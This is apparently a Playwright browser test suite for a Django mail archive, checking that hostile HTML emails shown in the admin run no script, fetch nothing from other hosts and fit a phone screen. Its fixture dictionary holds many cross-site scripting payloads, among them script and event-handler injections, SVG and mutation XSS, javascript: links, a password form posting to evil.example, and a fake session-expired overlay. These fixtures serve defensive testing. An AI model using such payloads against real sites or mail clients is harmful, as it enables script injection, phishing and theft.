"""Hostile mail in a real browser: no script of it runs, nothing is fetched elsewhere, nothing leaves its place.

Each is looked at on a phone, where what is too wide shows first. Mails are made before the browser opens: while it is
open, this thread has a running event loop.
"""

import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from django.test import Client
from playwright.sync_api import Page, expect
from pytest_django.live_server_helper import LiveServer

from mailboxes.models import Email, EmailContent
from tests.browser import Visitor, chromium
from tests.console.conftest import make_person
from tests.factories import make_email, make_mailbox
from tests.mailboxes.hostile import LF

pytestmark = [pytest.mark.on_sqlite, pytest.mark.long, pytest.mark.django_db(transaction=True)]

EMAILS = Path(__file__).parent.parent / "emails"
PHONE = {"width": 390, "height": 844}
PARTS = 6  # each within the time that one test may take on a machine that is busy as well
EVIL = "http://evil.example"

# what must not come to anything, each in the middle of a text that has to be seen
CRAFTED = {
    "script": f"<script>top.pwned=1;fetch('{EVIL}/')</script><script src={EVIL}/x.js></script>",
    "events": "<img src=x onerror=top.pwned=1><body onload=top.pwned=1><div onmouseover=top.pwned=1>over</div>",
    "svg": "<svg onload=top.pwned=1><animate onbegin=top.pwned=1></svg><svg><a xlink:href=javascript:top.pwned=1>x</a>",
    "mutation": '<svg></p><style><a id="</style><img src=1 onerror=top.pwned=1>"></svg>'
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=top.pwned=1>">',
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/"><meta http-equiv=Set-Cookie content="a=b">',
    "base": f'<base href="{EVIL}/" target="_top"><a href="x">relative</a>',
    "form": f"<form action={EVIL}/ method=post><input name=password autofocus onfocus=top.pwned=1><button>Go</button>",
    "frames": f"<iframe src={EVIL}/ srcdoc='<script>top.pwned=1</script>'></iframe><frameset><frame src={EVIL}/>",
    "objects": f"<object data={EVIL}/></object><embed src={EVIL}/><applet code={EVIL}/></applet>",
    "styles": f"<link rel=stylesheet href={EVIL}/x.css><style>@import url({EVIL}/y.css);body{{display:none}}</style>",
    "urls": f"<div style=\"background:url({EVIL}/a);background-image:url('{EVIL}/b');list-style:url({EVIL}/c);"
    f'border-image:url({EVIL}/d);content:url({EVIL}/e);cursor:url({EVIL}/f)">urls</div>',
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;width:99999px;height:99999px;background:red;'
    'margin:-5000px;transform:scale(99)">Your session has ended</div>',
    "pictures": f"<img src={EVIL}/1.png><img srcset='{EVIL}/2.png 2x' src=//evil.example/3.png>"
    f"<picture><source srcset={EVIL}/4.png></picture><table background={EVIL}/5.png><td background={EVIL}/6.png>x",
    "media": f"<video src={EVIL}/ poster={EVIL}/p autoplay></video><audio src={EVIL}/></audio><track src={EVIL}/>",
    "links": "<a href=javascript:top.pwned=1>a</a><a href=data:text/html,<script>top.pwned=1</script>>b</a>"
    "<a href='java&#10;script:top.pwned=1'>c</a><a href=vbscript:x>d</a>",
    "a table that is huge": f"<table width=99999 border=1>{'<tr>' + '<td>cell</td>' * 60 + '</tr>'}</table>" * 20,
    "a word that is huge": "W" * 20_000,
    "text turned round": "\u202egnp.exe\u202c \u2066\u202e never closed \u200b\u200d\ufeff zero width",
    "NULs": "a\0b<img\0 src=x onerror\0=top.pwned=1>",
    "deep": "<div>" * 400 + "deep",
    "out of the frame": "</body></html></iframe></div></main><h1 id=outside>outside</h1>",
}
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'><script>top.pwned=1</script></svg>"
WITH_SVG = (
    b"Subject: a picture that acts\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n"
    b"Content-Type: text/html\r\n\r\n<p>seen</p><img src='cid:one'><img src='cid:two'>\r\n"
    b"--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <one>\r\n\r\n" + SVG + b"\r\n"
    b"--b\r\nContent-Type: image/png; name=\xe2\x80\xaegnp.svg\r\nContent-ID: <two>\r\n\r\n" + SVG + b"\r\n--b--\r\n"
)  # fmt: skip


def crafted(name: str, html: str) -> bytes:
    # the subject and the sender are hostile as well
    header = f'From: \u202e"{name}<b>" <x@example.net>\r\nSubject: {name} \u202e<img src=x onerror=top.pwned=1>\r\n'
    return f"{header}Content-Type: text/html; charset=utf-8\r\n\r\n<p>seen</p>{html}".encode()


def made(mails: dict[str, bytes]) -> dict[str, Email]:
    make_mailbox()
    return {name: make_email(raw=octets) for name, octets in mails.items()}


@pytest.fixture
def session(transactional_db: None) -> str:
    client = Client()
    client.force_login(make_person("superuser"))
    return client.cookies["sessionid"].value


def visited(live_server: LiveServer, session: str) -> Iterator[Visitor]:
    cookie = {"name": "sessionid", "value": session, "url": live_server.url}
    state = {"cookies": [], "origins": []}
    with chromium() as browser, Visitor(browser, live_server.url, viewport=PHONE, storage_state=state) as visitor:
        visitor.page.context.add_cookies([cookie])  # type: ignore[list-item]
        yield visitor


def look_at(page: Page, email: Email, tab: str) -> None:
    page.goto(f"/admin/mailboxes/email/{email.pk}/change/?show={tab}")
    expect(page.locator("#content")).to_be_visible()
    wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    assert wide <= 0, f"{tab} is {wide} pixels wider than the screen"
    assert page.evaluate("window.pwned") is None
    assert page.locator("#outside").count() == 0


def look_at_frame(page: Page) -> None:
    box = page.locator(".mail-frame").bounding_box()
    assert box is not None
    assert box["x"] >= 0
    assert box["x"] + box["width"] <= PHONE["width"]
    assert 300 <= box["height"] <= PHONE["height"]
    document = page.frames[1]
    assert document.evaluate("window.origin") == "null"
    assert document.locator("script, iframe, object, embed, form, input, link, base, svg, math, a[href]").count() == 0


def test_what_is_crafted_to_act_does_nothing(live_server: LiveServer, session: str) -> None:
    mails = {name: crafted(name, html) for name, html in CRAFTED.items()} | {"svg by cid": WITH_SVG}
    emails = made(mails)
    safe = set(EmailContent.objects.exclude(html_safe="").values_list("pk", flat=True))
    assert len(safe) >= len(emails) - 1
    for visitor in visited(live_server, session):
        page = visitor.page
        for name, email in emails.items():
            look_at(page, email, "html")
            if email.pk in safe:
                look_at_frame(page)
                expect(page.frame_locator(".mail-frame").get_by_text("seen").first).to_be_visible()
            if shots := os.environ.get("CONSOLE_SCREENSHOTS"):
                page.screenshot(path=f"{shots}/hostile_{name.replace(' ', '_')}.png")
            assert visitor.problems == [], name
        look_at(page, emails["text turned round"], "overview")
        look_at(page, emails["links"], "links")
        page.goto("/admin/mailboxes/email/")
        assert page.locator("#result_list tbody tr").count() == len(emails)
        assert page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") <= 0
        assert visitor.problems == []


@pytest.mark.parametrize("part", range(PARTS))
def test_the_hostile_set_and_the_samples_are_pages_without_fault(
    part: int, live_server: LiveServer, session: str
) -> None:
    mails = {**LF, **{path.name: path.read_bytes() for path in sorted(EMAILS.glob("*.eml"))}}
    emails = made({name: mails[name] for name in list(mails)[part::PARTS]})
    safe = set(EmailContent.objects.exclude(html_safe="").values_list("pk", flat=True))
    for visitor in visited(live_server, session):
        page = visitor.page
        for name, email in emails.items():
            look_at(page, email, "html" if email.pk in safe else "overview")
            if email.pk in safe:
                look_at_frame(page)
            assert visitor.problems == [], name


def test_pictures_of_other_hosts_come_only_when_they_are_asked_for(live_server: LiveServer, session: str) -> None:
    picture = "https://pictures.example.net/pixel.png"
    raw = f"Subject: Offer\r\nContent-Type: text/html\r\n\r\n<p>seen</p><img src='{picture}'>".encode()
    email = made({"offer": raw})["offer"]
    for visitor in visited(live_server, session):
        page = visitor.page
        page.context.route("https://pictures.example.net/**", lambda route: route.fulfill(status=204))
        look_at(page, email, "html")
        assert picture not in visitor.urls
        page.get_by_role("button", name="Show remote pictures once").click()
        page.get_by_text("Whoever sent it may learn").wait_for()
        page.frame_locator(".mail-frame").get_by_text("seen").wait_for()
        assert visitor.urls.count(picture) == 1
        page.reload()
        page.get_by_role("button", name="Show remote pictures once").wait_for()
        assert visitor.urls.count(picture) == 1
        assert visitor.problems == [f"a request to another host: {picture}"]
